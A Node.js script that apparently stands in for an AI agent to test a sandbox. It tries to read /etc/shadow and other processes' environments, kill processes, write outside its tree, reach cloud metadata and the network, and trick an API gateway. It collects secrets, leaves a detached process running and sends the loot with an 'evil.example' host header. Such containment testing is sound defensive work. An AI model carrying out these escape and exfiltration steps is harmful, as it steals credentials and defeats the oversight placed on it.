#!/usr/bin/env node
// Stands where an agent's program would: reads the brief for what there is to take, and tries it all.
import { spawn } from "node:child_process";
import { createSocket } from "node:dgram";
import { Resolver } from "node:dns/promises";
import { readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { request } from "node:http";
import { connect } from "node:net";

if (process.argv.includes("--version")) {
  process.stdout.write("9.9.9 (stand-in)\n");
  process.exit();
}

const brief = JSON.parse(readFileSync(0, "utf8"));
const gateway = Number(process.env.GATEWAY_PORT);
const token = process.env.ANTHROPIC_API_KEY ?? process.env.GATEWAY_TOKEN ?? "";
const loot = [];

const read = (path) => loot.push(readFileSync(path, "latin1"));
const all = (directory, names = readdirSync(directory)) => {
  for (const name of names) {
    try {
      read(`${directory}/${name}`);
    } catch {}
  }
};

const reach = (...address) =>
  new Promise((resolve, reject) => {
    const socket = connect(...address).setTimeout(3_000);
    socket.on("connect", () => resolve(socket.destroy()));
    socket.on("error", reject);
    socket.on("timeout", () => reject(socket.destroy()));
  });

const ask = (path, { method = "POST", key = token, host = "127.0.0.1", body = "{}" } = {}) =>
  new Promise((resolve, reject) => {
    const headers = { "x-api-key": key, host, "content-type": "application/json" };
    const call = request(
      { host: "127.0.0.1", port: gateway, path, method, headers },
      (response) => {
        response.on("data", (chunk) => loot.push(String(chunk)));
        response.on("error", reject);
        response.on("end", () => (response.statusCode === 200 ? resolve() : reject()));
      },
    );
    call.on("connect", resolve);
    call.on("error", reject);
    call.end(body);
  });

const datagram = () =>
  new Promise((resolve, reject) => {
    const socket = createSocket("udp4");
    socket.send("?", 53, "192.0.2.53", (error) => {
      socket.close();
      return error ? reject(error) : resolve();
    });
  });

const resolveName = () => {
  const resolver = new Resolver({ timeout: 500, tries: 1 });
  return resolver.resolve4("example.com");
};

const ATTEMPTS = {
  "read a file of our home": () => read(brief.homeFile),
  "list our home": () => readdirSync(brief.home),
  "read the accounts' passwords": () => read("/etc/shadow"),
  "read another process": () => read(`/proc/${brief.pid}/environ`),
  "end another process": () => process.kill(brief.pid, "SIGKILL"),
  "write a file into the tree": () => writeFileSync(`${brief.tree}/planted`, "x"),
  "change a file of the tree": () => writeFileSync(`${brief.tree}/file.txt`, "x"),
  "remove a file of the tree": () => rmSync(`${brief.tree}/file.txt`),
  "write beside the tree": () => writeFileSync("/planted", "x"),
  "reach a service of this machine": () => reach(brief.port, "127.0.0.1"),
  "reach a service by its socket": () => reach(brief.socket),
  "reach a service by its hidden name": () => reach(`\0${brief.hidden}`),
  "reach the model server itself": () => reach(brief.modelPort, "127.0.0.1"),
  "reach the cloud's metadata": () => reach(80, "169.254.169.254"),
  "reach the network": () => reach(443, "192.0.2.1"),
  "send a datagram": datagram,
  "resolve a name": resolveName,
  "ask the gateway for another path": () => ask("/v1/files"),
  "ask the gateway to go up": () => ask("/v1/messages/../organizations"),
  "ask the gateway for another host": () => ask("http://192.0.2.1/v1/messages"),
  "ask the gateway for a tunnel": () => ask("192.0.2.1:443", { method: "CONNECT" }),
  "ask the gateway to read": () => ask("/v1/messages", { method: "GET" }),
  "ask the gateway without the word": () => ask("/v1/messages", { key: "guess" }),
};

const results = {};
for (const [name, attempt] of Object.entries(ATTEMPTS)) {
  try {
    await attempt();
    results[name] = "done";
  } catch {
    results[name] = "refused";
  }
}

loot.push(JSON.stringify(process.env));
for (const id of readdirSync("/proc").filter((name) => /^\d+$/.test(name))) {
  all(`/proc/${id}`, ["environ", "cmdline", "maps", "mountinfo", "status"]);
}
for (const place of ["/", "/tmp", "/run", "/run/countersign", "/etc", "/root", "/var/tmp"]) {
  try {
    loot.push(JSON.stringify(readdirSync(place)));
    all(place);
  } catch {}
}

spawn("/bin/sleep", ["60"], { env: { MARK: brief.mark }, detached: true, stdio: "ignore" }).unref();

await ask("/v1/messages", { host: "evil.example", body: JSON.stringify({ loot }) }).catch(() => {});
const text = JSON.stringify({ results, loot: loot.join("\n") });
const result = { type: "result", subtype: "success", is_error: false, structured_output: { text } };
process.stdout.write(`${JSON.stringify(result)}\n`);
